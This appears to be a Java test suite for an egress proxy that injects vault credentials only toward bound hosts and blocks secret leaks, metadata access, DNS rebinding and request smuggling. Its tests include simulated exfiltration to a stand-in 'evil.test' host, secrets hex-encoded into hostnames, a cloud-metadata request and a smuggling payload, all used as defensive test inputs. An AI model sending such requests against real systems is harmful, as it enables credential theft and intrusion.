package dev.warden.egress;

import static org.assertj.core.api.Assertions.assertThat;

import dev.warden.kernel.Action;
import dev.warden.kernel.Decision;
import dev.warden.vault.HostPattern;
import dev.warden.vault.Secret;
import dev.warden.vault.Vault;
import dev.warden.vault.VaultKey;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ProxySelector;
import java.net.Socket;
import java.net.StandardProtocolFamily;
import java.net.URI;
import java.net.URLEncoder;
import java.net.UnixDomainSocketAddress;
import java.net.UnknownHostException;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.ByteBuffer;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.KeyStore;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicReference;
import javax.net.ssl.SSLContext;
import javax.net.ssl.TrustManagerFactory;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class EgressProxyTest {
  static final String TOKEN = "gho_NotARealTokenButLongEnough0123456789abcd";

  @TempDir Path tmp;

  Vault vault;
  CertificateAuthority wardenCa;
  CertificateAuthority testCa;
  TestUpstream plain;
  TestUpstream api;
  TestUpstream evil;
  EgressProxy proxy;
  final List<EgressRecord> records = new CopyOnWriteArrayList<>();
  final AtomicInteger lookups = new AtomicInteger();
  final AtomicReference<EgressAuthorizer> authorizer = new AtomicReference<>(EgressAuthorizer.unsafeAllowAll());
  final List<Action.Egress> authorized = new CopyOnWriteArrayList<>();

  final Resolver resolver = host -> {
    lookups.incrementAndGet();
    return switch (host) {
      case "plain.test", "api.test", "evil.test", "unlisted.test" -> List.of(InetAddress.getByAddress(host, new byte[] {127, 0, 0, 1}));
      default -> throw new UnknownHostException(host);
    };
  };

  @BeforeEach
  void setUp() throws Exception {
    Path vdir = tmp.resolve("vault");
    vault = Vault.open(vdir, VaultKey.fromFile(vdir.resolve("k")));
    vault.add("github", Secret.ofUtf8(TOKEN), List.of(HostPattern.of("api.test")), List.of());
    wardenCa = CertificateAuthority.loadOrCreate(tmp.resolve("ca"));
    testCa = CertificateAuthority.loadOrCreate(tmp.resolve("testca"));
    plain = TestUpstream.http("plain");
    api = TestUpstream.https("api", testCa.newServerContext("api.test"));
    evil = TestUpstream.https("evil", testCa.newServerContext("evil.test"));
    proxy = startProxy(guard(), null);
  }

  DestinationGuard guard() {
    return new DestinationGuard(resolver,
        List.of(HostPattern.of("plain.test"), HostPattern.of("api.test"), HostPattern.of("evil.test")));
  }

  EgressProxy startProxy(DestinationGuard g, Path socket) throws Exception {
    EgressProxy.Builder b = EgressProxy.builder(wardenCa, vault)
        .guard(g)
        .authorizer((req, creds) -> {
          authorized.add(req);
          return authorizer.get().authorize(req, creds);
        })
        .listener(records::add)
        .unsafeAlsoTrustUpstreamRoot(testCa.certificate());
    if (socket != null) {
      b.unixSocket(socket);
    }
    return b.start();
  }

  @AfterEach
  void tearDown() {
    proxy.close();
    plain.close();
    api.close();
    evil.close();
    for (EgressRecord r : records) {
      assertThat(r.toString()).doesNotContain(TOKEN);
    }
    for (Action.Egress a : authorized) {
      assertThat(a.toString()).doesNotContain(TOKEN);
    }
  }

  // ------------------------------------------------------------------------------------------ clients

  record Result(int status, String body) {}

  Result curl(String... args) throws Exception {
    List<String> cmd = new ArrayList<>(List.of("curl", "-sS", "--max-time", "20", "--proxy", proxy.proxyUri().toString(),
        "--cacert", wardenCa.certificatePath().toString(), "-w", "\n%{http_code}"));
    cmd.addAll(List.of(args));
    ProcessBuilder pb = new ProcessBuilder(cmd).redirectErrorStream(true);
    for (String k : List.of("http_proxy", "https_proxy", "HTTP_PROXY", "HTTPS_PROXY", "NO_PROXY", "no_proxy", "ALL_PROXY", "all_proxy")) {
      pb.environment().remove(k);
    }
    Process p = pb.start();
    String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
    assertThat(p.waitFor(30, TimeUnit.SECONDS)).isTrue();
    int nl = out.lastIndexOf('\n');
    return new Result(Integer.parseInt(out.substring(nl + 1).trim()), out.substring(0, nl));
  }

  HttpClient javaClient() throws Exception {
    KeyStore ks = KeyStore.getInstance("PKCS12");
    ks.load(null, null);
    ks.setCertificateEntry("warden", wardenCa.certificate());
    TrustManagerFactory tmf = TrustManagerFactory.getInstance(TrustManagerFactory.getDefaultAlgorithm());
    tmf.init(ks);
    SSLContext ctx = SSLContext.getInstance("TLS");
    ctx.init(null, tmf.getTrustManagers(), null);
    return HttpClient.newBuilder()
        .proxy(ProxySelector.of(new InetSocketAddress("127.0.0.1", proxy.port())))
        .sslContext(ctx)
        .connectTimeout(Duration.ofSeconds(10))
        .build();
  }

  Result java(HttpRequest req) throws Exception {
    HttpResponse<String> r = javaClient().send(req, HttpResponse.BodyHandlers.ofString());
    return new Result(r.statusCode(), r.body());
  }

  String apiUrl(String path) {
    return "https://api.test:" + api.port() + path;
  }

  String plainUrl(String path) {
    return "http://plain.test:" + plain.port() + path;
  }

  /** Records of sent requests arrive just after the client got its response; wait briefly. */
  EgressRecord lastRecord() throws InterruptedException {
    for (int i = 0; i < 200 && records.isEmpty(); i++) {
      Thread.sleep(10);
    }
    assertThat(records).isNotEmpty();
    return records.getLast();
  }

  // -------------------------------------------------------------------------------------------- tests

  @Test
  void plainHttp_javaClient_forwardedAndRecorded() throws Exception {
    Result r = java(HttpRequest.newBuilder(URI.create(plainUrl("/hello?x=1"))).header("X-Test", "1").build());
    assertThat(r.status()).isEqualTo(200);
    assertThat(r.body()).isEqualTo("hello from plain\n");
    assertThat(plain.received).singleElement().satisfies(x -> {
      assertThat(x.uri()).isEqualTo("/hello?x=1");
      assertThat(x.header("X-Test")).isEqualTo("1");
      assertThat(x.header("Proxy-Connection")).isNull();
    });
    EgressRecord rec = lastRecord();
    assertThat(rec.verdict()).isEqualTo("allow");
    assertThat(rec.host()).isEqualTo("plain.test");
    assertThat(rec.path()).isEqualTo("/hello");
    assertThat(rec.status()).isEqualTo(200);
    assertThat(rec.bytesUp()).isPositive();
    assertThat(rec.bytesDown()).isPositive();
    assertThat(authorized.getFirst().url().toString()).isEqualTo(plainUrl("/hello?x=1"));
    assertThat(authorized.getFirst().via()).isEqualTo("egress-proxy");
  }

  @Test
  void plainHttp_curl_keepAliveAndChunkedRelayed() throws Exception {
    Result r = curl(plainUrl("/chunked"), plainUrl("/again"));
    assertThat(r.status()).isEqualTo(200);
    assertThat(r.body()).contains("hello from plain\nhello from plain\n").contains("hello from plain");
    assertThat(plain.received).hasSize(2);
  }

  @Test
  void httpsConnect_curl_placeholderInjectedTowardBoundHost() throws Exception {
    Result r = curl("-H", "Authorization: Bearer " + Vault.placeholder("github"), apiUrl("/user"));
    assertThat(r.status()).as(r.body()).isEqualTo(200);
    assertThat(r.body()).isEqualTo("hello from api\n");
    assertThat(api.received).singleElement().satisfies(x -> assertThat(x.header("Authorization")).isEqualTo("Bearer " + TOKEN));
    EgressRecord rec = lastRecord();
    assertThat(rec.scheme()).isEqualTo("https");
    assertThat(rec.credentialNames()).containsExactly("github");
    assertThat(rec.verdict()).isEqualTo("allow");
    assertThat(authorized.getFirst().headers().get("authorization")).isEqualTo("Bearer wdn-cred:github");
    assertThat(vault.metadata("github").orElseThrow().lastUsedOrNull()).isNotNull();
  }

  @Test
  void httpsConnect_javaClient_placeholderInUrlAndBodyInjected() throws Exception {
    Result r = java(HttpRequest.newBuilder(URI.create(apiUrl("/q?token=" + Vault.placeholder("github"))))
        .POST(HttpRequest.BodyPublishers.ofString("{\"t\":\"" + Vault.placeholder("github") + "\"}")).build());
    assertThat(r.status()).as(r.body()).isEqualTo(200);
    assertThat(api.received).singleElement().satisfies(x -> {
      assertThat(x.uri()).isEqualTo("/q?token=" + TOKEN);
      assertThat(x.body()).isEqualTo("{\"t\":\"" + TOKEN + "\"}");
    });
  }

  @Test
  void basicAuth_placeholderInsideBase64_injected() throws Exception {
    String basic = Base64.getEncoder().encodeToString(("x-access-token:" + Vault.placeholder("github")).getBytes(StandardCharsets.UTF_8));
    Result r = curl("-H", "Authorization: Basic " + basic, apiUrl("/repo.git/info/refs"));
    assertThat(r.status()).as(r.body()).isEqualTo(200);
    String got = api.received.getFirst().header("Authorization");
    assertThat(new String(Base64.getDecoder().decode(got.substring(6)), StandardCharsets.UTF_8)).isEqualTo("x-access-token:" + TOKEN);
  }

  @Test
  void placeholder_towardUnboundHost_blockedRecordedAsAlert() throws Exception {
    Result r = curl("-H", "Authorization: Bearer " + Vault.placeholder("github"), "https://evil.test:" + evil.port() + "/collect");
    assertThat(r.status()).isEqualTo(403);
    assertThat(r.body()).contains("outside that credential's bindings").contains(EgressRecord.RULE_CREDENTIAL_UNBOUND);
    assertThat(evil.received).isEmpty();
    EgressRecord rec = lastRecord();
    assertThat(rec.alert()).isTrue();
    assertThat(rec.rule()).isEqualTo(EgressRecord.RULE_CREDENTIAL_UNBOUND);
    assertThat(rec.credentialNames()).containsExactly("github");
    assertThat(rec.sent()).isFalse();
    assertThat(authorized).isEmpty();
  }

  @Test
  void placeholder_overPlainHttpToUnboundHost_blocked() throws Exception {
    Result r = java(HttpRequest.newBuilder(URI.create(plainUrl("/?k=" + Vault.placeholder("github")))).build());
    assertThat(r.status()).isEqualTo(403);
    assertThat(plain.received).isEmpty();
  }

  @Test
  void placeholder_unknownCredential_blocked() throws Exception {
    Result r = curl("-H", "X-Key: " + Vault.placeholder("nosuch"), apiUrl("/"));
    assertThat(r.status()).isEqualTo(403);
    assertThat(r.body()).contains("not in the vault");
    assertThat(api.received).isEmpty();
  }

  @Test
  void placeholder_suspendedCredential_blocked() throws Exception {
    vault.suspend("github");
    Result r = curl("-H", "Authorization: Bearer " + Vault.placeholder("github"), apiUrl("/user"));
    assertThat(r.status()).isEqualTo(403);
    assertThat(r.body()).contains("suspended");
    assertThat(api.received).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(strings = {"clear", "base64", "hex", "url", "basic"})
  void vaultSecret_encodedInBody_blockedEvenTowardBoundHost(String encoding) throws Exception {
    byte[] raw = TOKEN.getBytes(StandardCharsets.UTF_8);
    String payload = switch (encoding) {
      case "clear" -> TOKEN;
      case "base64" -> Base64.getEncoder().encodeToString(raw);
      case "hex" -> HexFormat.of().formatHex(raw);
      case "url" -> URLEncoder.encode(TOKEN + "&x", StandardCharsets.UTF_8);
      default -> Base64.getEncoder().encodeToString(("me:" + TOKEN).getBytes(StandardCharsets.UTF_8));
    };
    Result r = curl("--data-binary", "data=" + payload, apiUrl("/upload"));
    assertThat(r.status()).isEqualTo(403);
    assertThat(r.body()).contains("secret 'github'").contains("body").doesNotContain(TOKEN).doesNotContain(payload);
    assertThat(api.received).isEmpty();
    assertThat(lastRecord().rule()).isEqualTo(EgressRecord.RULE_LEAK);
    assertThat(lastRecord().alert()).isTrue();
  }

  @Test
  void vaultSecret_insideGzipBody_blocked() throws Exception {
    java.io.ByteArrayOutputStream buf = new java.io.ByteArrayOutputStream();
    try (java.util.zip.GZIPOutputStream gz = new java.util.zip.GZIPOutputStream(buf)) {
      gz.write(("{\"t\":\"" + TOKEN + "\"}").getBytes(StandardCharsets.UTF_8));
    }
    Result r = java(HttpRequest.newBuilder(URI.create(plainUrl("/gz"))).header("Content-Encoding", "gzip")
        .POST(HttpRequest.BodyPublishers.ofByteArray(buf.toByteArray())).build());
    assertThat(r.status()).isEqualTo(403);
    assertThat(r.body()).contains("compressed body");
    Result unknown = java(HttpRequest.newBuilder(URI.create(plainUrl("/br"))).header("Content-Encoding", "br")
        .POST(HttpRequest.BodyPublishers.ofString("opaque")).build());
    assertThat(unknown.status()).isEqualTo(415);
    Result clean = java(HttpRequest.newBuilder(URI.create(plainUrl("/ok"))).header("Content-Encoding", "gzip")
        .POST(HttpRequest.BodyPublishers.ofByteArray(gzip("hello"))).build());
    assertThat(clean.status()).isEqualTo(200);
    assertThat(plain.received).hasSize(1);
  }

  static byte[] gzip(String text) throws IOException {
    java.io.ByteArrayOutputStream buf = new java.io.ByteArrayOutputStream();
    try (java.util.zip.GZIPOutputStream gz = new java.util.zip.GZIPOutputStream(buf)) {
      gz.write(text.getBytes(StandardCharsets.UTF_8));
    }
    return buf.toByteArray();
  }

  @Test
  void vaultSecret_hexInUrl_blocked() throws Exception {
    String hex = HexFormat.of().formatHex(TOKEN.getBytes(StandardCharsets.UTF_8));
    Result r = java(HttpRequest.newBuilder(URI.create(plainUrl("/c?d=" + hex))).build());
    assertThat(r.status()).isEqualTo(403);
    assertThat(r.body()).contains("hex-encoded value of secret 'github'").contains("URL");
    assertThat(plain.received).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(strings = {
      "AKIAIOSFODNN7EXAMPLE",
      "ghp_aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789",
      "github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyz",
      "xoxb-123456789012-abcdefghijkl",
      "-----BEGIN RSA PRIVATE KEY-----",
      "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
      "sk-ant-api03-abcdefghijklmnopqrstuvwxyz012345",
      "sk-proj-abcdefghijklmnopqrstuvwxyz0123456789"})
  void tokenShape_inHeaderOrBody_blocked(String token) throws Exception {
    Result inBody = curl("--data-binary", "x=" + token, plainUrl("/p"));
    assertThat(inBody.status()).isEqualTo(403);
    assertThat(inBody.body()).doesNotContain(token).contains(EgressRecord.RULE_LEAK);
    Result inHeader = java(HttpRequest.newBuilder(URI.create(plainUrl("/h"))).header("X-Data", token).build());
    assertThat(inHeader.status()).isEqualTo(403);
    Result b64 = curl("--data-binary", "x=" + Base64.getEncoder().encodeToString(token.getBytes(StandardCharsets.UTF_8)), plainUrl("/p"));
    assertThat(b64.status()).isEqualTo(403);
    assertThat(b64.body()).contains("base64-encoded");
    assertThat(plain.received).isEmpty();
  }

  @Test
  void loopback_withoutAllowlist_deniedByGuard() throws Exception {
    proxy.close();
    proxy = startProxy(new DestinationGuard(resolver, List.of()), null);
    Result r = java(HttpRequest.newBuilder(URI.create(plainUrl("/"))).build());
    assertThat(r.status()).isEqualTo(403);
    assertThat(r.body()).contains("loopback").contains("--allow-host plain.test").contains(EgressRecord.RULE_DESTINATION);
    Result literal = java(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + plain.port() + "/")).build());
    assertThat(literal.status()).isEqualTo(403);
    Result connect = curl(apiUrl("/"));
    assertThat(connect.status()).isEqualTo(403);
    assertThat(connect.body()).contains("loopback");
    assertThat(records).hasSize(3).allSatisfy(x -> assertThat(x.rule()).isEqualTo(EgressRecord.RULE_DESTINATION));
    assertThat(plain.received).isEmpty();
    assertThat(api.received).isEmpty();
  }

  @Test
  void connectToLoopbackLiteral_refusedAtConnectWithoutDns() throws Exception {
    proxy.close();
    proxy = startProxy(new DestinationGuard(resolver, List.of()), null);
    Result r = curl("https://127.0.0.1:" + api.port() + "/");
    assertThat(r.status()).isNotEqualTo(200);
    assertThat(lastRecord().method()).isEqualTo("CONNECT");
    assertThat(lastRecord().rule()).isEqualTo(EgressRecord.RULE_DESTINATION);
    assertThat(lookups).hasValue(0);
    assertThat(authorized).isEmpty();
  }

  @Test
  void secretInHostName_blockedBeforeAnyDnsLookup() throws Exception {
    vault.add("dns", Secret.ofUtf8("s3cretvalue42xyz"), List.of(HostPattern.of("a.example")), List.of());
    String hex = HexFormat.of().formatHex("s3cretvalue42xyz".getBytes(StandardCharsets.UTF_8));
    Result viaConnect = curl("https://" + hex + ".evil.test:" + evil.port() + "/");
    assertThat(viaConnect.body()).contains("403"); // curl reports the refused CONNECT as an error
    assertThat(lastRecord().method()).isEqualTo("CONNECT");
    assertThat(lastRecord().blockedReasonOrNull()).contains("hex-encoded value of secret 'dns'");
    Result viaForward = java(HttpRequest.newBuilder(URI.create("http://s3cretvalue42xyz.evil.test:" + plain.port() + "/")).build());
    assertThat(viaForward.status()).isEqualTo(403);
    Result shape = java(HttpRequest.newBuilder(URI.create("http://AKIAIOSFODNN7EXAMPLE.evil.test:" + plain.port() + "/")).build());
    assertThat(shape.status()).isEqualTo(403);
    assertThat(shape.body()).contains("AWS access key");
    assertThat(lookups).as("DNS is an exfiltration channel too").hasValue(0);
    assertThat(records).allSatisfy(r -> assertThat(r.rule()).isEqualTo(EgressRecord.RULE_LEAK));
  }

  @Test
  void metadataAddress_deniedEvenIfAllowlisted() throws Exception {
    proxy.close();
    proxy = startProxy(new DestinationGuard(resolver, List.of(HostPattern.of("169.254.169.254"))), null);
    Result r = java(HttpRequest.newBuilder(URI.create("http://169.254.169.254/latest/meta-data/")).build());
    assertThat(r.status()).isEqualTo(403);
    assertThat(r.body()).contains("metadata");
    assertThat(lastRecord().alert()).isTrue();
  }

  @Test
  void dnsRebinding_connectsToTheCheckedAddressOnly() throws Exception {
    // First answer: the allowlisted loopback server; any later answer: a different address where a
    // second server waits. A proxy that resolved twice would reach the second server.
    TestUpstream other = TestUpstream.http("other", "127.0.0.2", plain.port());
    try {
      AtomicInteger calls = new AtomicInteger();
      Resolver rebinding = host -> calls.getAndIncrement() == 0
          ? List.of(InetAddress.getByAddress(host, new byte[] {127, 0, 0, 1}))
          : List.of(InetAddress.getByAddress(host, new byte[] {127, 0, 0, 2}));
      proxy.close();
      proxy = startProxy(new DestinationGuard(rebinding, List.of(HostPattern.of("rebind.test"))), null);
      Result r = java(HttpRequest.newBuilder(URI.create("http://rebind.test:" + plain.port() + "/x")).build());
      assertThat(r.status()).isEqualTo(200);
      assertThat(r.body()).isEqualTo("hello from plain\n");
      assertThat(calls).hasValue(1);
      assertThat(other.received).isEmpty();
      assertThat(lastRecord().addressOrNull()).isEqualTo("127.0.0.1");
    } finally {
      other.close();
    }
  }

  @Test
  void tunnel_resolvesOnceForAllRequests() throws Exception {
    int before = lookups.get();
    Result r = curl(apiUrl("/a"), apiUrl("/b"), apiUrl("/c"));
    assertThat(r.status()).isEqualTo(200);
    assertThat(api.received).hasSize(3);
    assertThat(lookups.get() - before).isEqualTo(1);
  }

  @Test
  void authorizerDeny_403WithReasonAndRule() throws Exception {
    authorizer.set((req, creds) -> new Decision.Deny("deny-untrusted-egress", "the session read untrusted web content"));
    Result r = curl(apiUrl("/x"));
    assertThat(r.status()).isEqualTo(403);
    assertThat(r.body()).contains("the session read untrusted web content").contains("rule: deny-untrusted-egress");
    assertThat(api.received).isEmpty();
    assertThat(lastRecord().verdict()).isEqualTo("deny");
    assertThat(lastRecord().rule()).isEqualTo("deny-untrusted-egress");
    assertThat(lookups).as("a refused request causes no DNS query").hasValue(0);
  }

  @Test
  void authorizerAsk_403WithApprovalId() throws Exception {
    authorizer.set((req, creds) -> new Decision.Ask("ask-new-destination", "needs approval, id apr-42", new TreeSet<>(Set.of("web:x"))));
    Result r = java(HttpRequest.newBuilder(URI.create(plainUrl("/"))).build());
    assertThat(r.status()).isEqualTo(403);
    assertThat(r.body()).contains("apr-42").contains("approval");
    assertThat(lastRecord().verdict()).isEqualTo("ask");
  }

  @Test
  void authorizerThrows_failsClosed() throws Exception {
    authorizer.set((req, creds) -> {
      throw new IllegalStateException("kernel down");
    });
    Result r = java(HttpRequest.newBuilder(URI.create(plainUrl("/"))).build());
    assertThat(r.status()).isEqualTo(403);
    assertThat(r.body()).contains(EgressRecord.RULE_AUTHORIZER_ERROR);
    assertThat(plain.received).isEmpty();
  }

  @Test
  void authorizer_receivesCredentialNames() throws Exception {
    List<Set<String>> seen = new CopyOnWriteArrayList<>();
    authorizer.set((req, creds) -> {
      seen.add(creds);
      return new Decision.Allow("ok", "ok");
    });
    curl("-H", "Authorization: Bearer " + Vault.placeholder("github"), apiUrl("/user"));
    assertThat(seen).containsExactly(Set.of("github"));
  }

  @Test
  void untrustedUpstreamCertificate_502() throws Exception {
    proxy.close();
    proxy = EgressProxy.builder(wardenCa, vault).guard(guard()).authorizer(EgressAuthorizer.unsafeAllowAll())
        .listener(records::add).start();
    Result r = curl(apiUrl("/"));
    assertThat(r.status()).isEqualTo(502);
    assertThat(lastRecord().errorOrNull()).isNotNull();
    assertThat(api.received).isEmpty();
  }

  @Test
  void oversizedBody_413WithoutForwarding() throws Exception {
    try (Socket s = new Socket("127.0.0.1", proxy.port())) {
      OutputStream out = s.getOutputStream();
      out.write(("POST " + plainUrl("/big") + " HTTP/1.1\r\nHost: plain.test\r\nContent-Length: "
          + (EgressProxy.MAX_BUFFERED_BODY_BYTES + 1) + "\r\n\r\n").getBytes(StandardCharsets.ISO_8859_1));
      out.flush();
      String resp = new String(s.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
      assertThat(resp).startsWith("HTTP/1.1 413").contains("leak scan");
    }
    assertThat(plain.received).isEmpty();
  }

  @Test
  void oversizedHead_431() throws Exception {
    try (Socket s = new Socket("127.0.0.1", proxy.port())) {
      OutputStream out = s.getOutputStream();
      out.write(("GET " + plainUrl("/") + " HTTP/1.1\r\nX-Big: " + "a".repeat(EgressProxy.MAX_HEADER_BYTES) + "\r\n\r\n")
          .getBytes(StandardCharsets.ISO_8859_1));
      out.flush();
      assertThat(new String(s.getInputStream().readAllBytes(), StandardCharsets.UTF_8)).startsWith("HTTP/1.1 431");
    }
  }

  @Test
  void originFormRequest_400ExplainsProxyUse() throws Exception {
    try (Socket s = new Socket("127.0.0.1", proxy.port())) {
      s.getOutputStream().write("GET / HTTP/1.1\r\nHost: x\r\n\r\n".getBytes(StandardCharsets.ISO_8859_1));
      String resp = new String(s.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
      assertThat(resp).startsWith("HTTP/1.1 400").contains("absolute");
    }
  }

  @Test
  void smuggling_bothLengthHeaders_400() throws Exception {
    try (Socket s = new Socket("127.0.0.1", proxy.port())) {
      s.getOutputStream().write(("POST " + plainUrl("/") + " HTTP/1.1\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n")
          .getBytes(StandardCharsets.ISO_8859_1));
      assertThat(new String(s.getInputStream().readAllBytes(), StandardCharsets.UTF_8)).startsWith("HTTP/1.1 400");
    }
    assertThat(plain.received).isEmpty();
  }

  @Test
  void malformedTargetInsideTunnel_400() throws Exception {
    try (Socket s = new Socket("127.0.0.1", proxy.port())) {
      s.getOutputStream().write(("CONNECT plain.test:" + plain.port() + " HTTP/1.1\r\n\r\nGET /a{b} HTTP/1.1\r\nHost: plain.test\r\n\r\n")
          .getBytes(StandardCharsets.ISO_8859_1));
      String resp = new String(s.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
      assertThat(resp).startsWith("HTTP/1.1 200 Connection Established").contains("HTTP/1.1 400").contains("malformed request target");
    }
    assertThat(plain.received).isEmpty();
  }

  @Test
  void chunkedRequestBody_decodedScannedAndForwarded() throws Exception {
    try (Socket s = new Socket("127.0.0.1", proxy.port())) {
      s.getOutputStream().write(("POST " + plainUrl("/c") + " HTTP/1.1\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
          + "5\r\nhello\r\n6\r\n world\r\n0\r\n\r\n").getBytes(StandardCharsets.ISO_8859_1));
      assertThat(new String(s.getInputStream().readAllBytes(), StandardCharsets.UTF_8)).startsWith("HTTP/1.1 200");
    }
    assertThat(plain.received.getFirst().body()).isEqualTo("hello world");
  }

  @Test
  void unixSocket_forwardRequestAndConnectWork() throws Exception {
    proxy.close();
    Path sock = tmp.resolve("run").resolve("proxy.sock");
    proxy = startProxy(guard(), sock);
    assertThat(proxy.unixSocketPath()).contains(sock);
    try (SocketChannel ch = SocketChannel.open(StandardProtocolFamily.UNIX)) {
      ch.connect(UnixDomainSocketAddress.of(sock));
      ch.write(ByteBuffer.wrap(("GET " + plainUrl("/via-unix") + " HTTP/1.1\r\nConnection: close\r\n\r\n")
          .getBytes(StandardCharsets.ISO_8859_1)));
      String resp = readAll(ch);
      assertThat(resp).startsWith("HTTP/1.1 200").endsWith("hello from plain\n");
    }
    assertThat(plain.received).singleElement().satisfies(x -> assertThat(x.uri()).isEqualTo("/via-unix"));
    try (SocketChannel ch = SocketChannel.open(StandardProtocolFamily.UNIX)) {
      ch.connect(UnixDomainSocketAddress.of(sock));
      ch.write(ByteBuffer.wrap(("CONNECT plain.test:" + plain.port() + " HTTP/1.1\r\n\r\n"
          + "GET /in-tunnel HTTP/1.1\r\nHost: plain.test\r\nConnection: close\r\n\r\n").getBytes(StandardCharsets.ISO_8859_1)));
      String resp = readAll(ch);
      assertThat(resp).startsWith("HTTP/1.1 200 Connection Established").contains("hello from plain");
    }
    assertThat(plain.received).hasSize(2);
    proxy.close();
    assertThat(Files.exists(sock)).isFalse();
  }

  /**
   * The deployment path end to end: curl inside a bubblewrap sandbox with no network but loopback,
   * reaching the proxy only through its Unix socket (bound into the sandbox) and socat, as the
   * design describes. Skipped where bwrap or socat is missing.
   */
  @Test
  void sandboxedCurl_throughUnixSocket_injectsForBoundHostAndBlocksOther() throws Exception {
    org.junit.jupiter.api.Assumptions.assumeTrue(Files.isExecutable(Path.of("/usr/bin/bwrap")) && Files.isExecutable(Path.of("/usr/bin/socat")),
        "needs bubblewrap and socat");
    proxy.close();
    Path sockDir = Files.createDirectories(tmp.resolve("run"));
    proxy = startProxy(guard(), sockDir.resolve("proxy.sock"));
    String good = sandboxCurl(sockDir, "https://api.test:" + api.port() + "/in-sandbox");
    assertThat(good).endsWith("200");
    assertThat(api.received).singleElement().satisfies(x -> assertThat(x.header("Authorization")).isEqualTo("Bearer " + TOKEN));
    String bad = sandboxCurl(sockDir, "https://evil.test:" + evil.port() + "/in-sandbox");
    assertThat(bad).endsWith("403").contains(EgressRecord.RULE_CREDENTIAL_UNBOUND);
    assertThat(evil.received).isEmpty();
    String direct = sandboxCurlNoProxy("http://127.0.0.1:" + plain.port() + "/");
    assertThat(direct).doesNotContain("hello from plain");
    assertThat(plain.received).isEmpty();
  }

  String sandboxCurl(Path sockDir, String url) throws Exception {
    return bwrap(sockDir, "socat TCP-LISTEN:3128,bind=127.0.0.1,fork,reuseaddr UNIX-CONNECT:/run/warden/proxy.sock & "
        + "for i in 1 2 3 4 5 6 7 8 9 10; do (echo > /dev/tcp/127.0.0.1/3128) 2>/dev/null && break; sleep 0.1; done; "
        + "curl -sS --max-time 15 --proxy http://127.0.0.1:3128 --cacert /run/warden-ca/" + CertificateAuthority.CERT_FILE
        + " -H 'Authorization: Bearer " + Vault.placeholder("github") + "' -w '\\n%{http_code}' " + url);
  }

  String sandboxCurlNoProxy(String url) throws Exception {
    return bwrap(tmp, "curl -sS --max-time 5 " + url + "; echo rc=$?");
  }

  String bwrap(Path sockDir, String script) throws Exception {
    List<String> cmd = List.of("bwrap", "--unshare-all", "--die-with-parent", "--new-session",
        "--ro-bind", "/usr", "/usr", "--ro-bind", "/etc", "/etc", "--symlink", "usr/lib", "/lib",
        "--symlink", "usr/lib64", "/lib64", "--symlink", "usr/bin", "/bin", "--proc", "/proc", "--dev", "/dev",
        "--tmpfs", "/tmp", "--ro-bind", sockDir.toString(), "/run/warden",
        "--ro-bind", wardenCa.certificatePath().getParent().toString(), "/run/warden-ca",
        "bash", "-c", script);
    Process p = new ProcessBuilder(cmd).redirectErrorStream(true).start();
    String out = new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8).trim();
    p.waitFor(30, TimeUnit.SECONDS);
    return out;
  }

  @Test
  void unixSocket_pathIsARegularFile_refused() throws Exception {
    Path f = Files.writeString(tmp.resolve("not-a-socket"), "x");
    org.assertj.core.api.Assertions.assertThatThrownBy(() -> startProxy(guard(), f))
        .hasMessageContaining("is not a socket");
  }

  @Test
  void throwingListener_doesNotBreakEgress() throws Exception {
    proxy.close();
    proxy = EgressProxy.builder(wardenCa, vault).guard(guard()).authorizer(EgressAuthorizer.unsafeAllowAll())
        .listener(r -> {
          throw new IllegalStateException("broken sink");
        }).start();
    assertThat(java(HttpRequest.newBuilder(URI.create(plainUrl("/"))).build()).status()).isEqualTo(200);
  }

  @Test
  void denyAllAuthorizer_blocksEverything() throws Exception {
    authorizer.set(EgressAuthorizer.DENY_ALL);
    Result r = java(HttpRequest.newBuilder(URI.create(plainUrl("/"))).build());
    assertThat(r.status()).isEqualTo(403);
    assertThat(r.body()).contains("egress-deny-all");
  }

  @Test
  void builder_withoutAuthorizer_refusesToStart() {
    org.assertj.core.api.Assertions.assertThatThrownBy(() -> EgressProxy.builder(wardenCa, vault).start())
        .isInstanceOf(IllegalStateException.class).hasMessageContaining("Kernel.submit");
  }

  @Test
  void clientEnvironment_pointsEverythingAtProxyAndCa() {
    Map<String, String> env = EgressProxy.clientEnvironment("http://127.0.0.1:3128", "/run/warden/ca.pem", "/run/warden/bundle.pem");
    assertThat(env).containsEntry("HTTPS_PROXY", "http://127.0.0.1:3128").containsEntry("SSL_CERT_FILE", "/run/warden/bundle.pem")
        .containsEntry("NODE_EXTRA_CA_CERTS", "/run/warden/ca.pem").containsEntry("REQUESTS_CA_BUNDLE", "/run/warden/bundle.pem");
  }

  static String readAll(SocketChannel ch) throws IOException {
    InputStream in = java.nio.channels.Channels.newInputStream(ch);
    return new String(in.readAllBytes(), StandardCharsets.UTF_8);
  }
}
